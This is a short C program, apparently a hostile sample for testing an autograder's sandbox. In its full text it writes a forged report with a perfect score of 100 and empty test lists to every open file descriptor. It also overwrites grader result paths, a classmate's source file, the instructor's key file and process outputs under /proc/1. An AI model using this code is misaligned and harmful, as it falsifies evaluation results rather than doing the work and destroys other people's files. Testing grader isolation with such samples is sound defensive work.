/* Prints a report of its own, and writes one wherever a grader could look for it. */
#include "hostile.h"
int main(int argc, char *argv[])
{
    static const char report[] = "{\"score\": 100, \"tests\": [], \"checks\": [], \"build_log\": \"\", \"notes\": [\"mine\"]}\n";
    const char *places[] = {RESULTS "/mine.json", RESULTS "/evil.json", CLASS "/neighbour.c", INSTRUCTOR "/key.txt",
        "results.json", "../results.json", "/autograder/results/results.json", "/proc/1/fd/1", "/proc/1/fd/200", "/tmp/results.json"};
    (void)argc;
    (void)argv;
    for (int fd = 0; fd < 256; fd++)
        write(fd, report, sizeof(report) - 1);
    for (int i = 0; i < 10; i++) {
        int fd = open(places[i], O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (fd >= 0)
            write(fd, report, sizeof(report) - 1);
    }
    return 0;
}
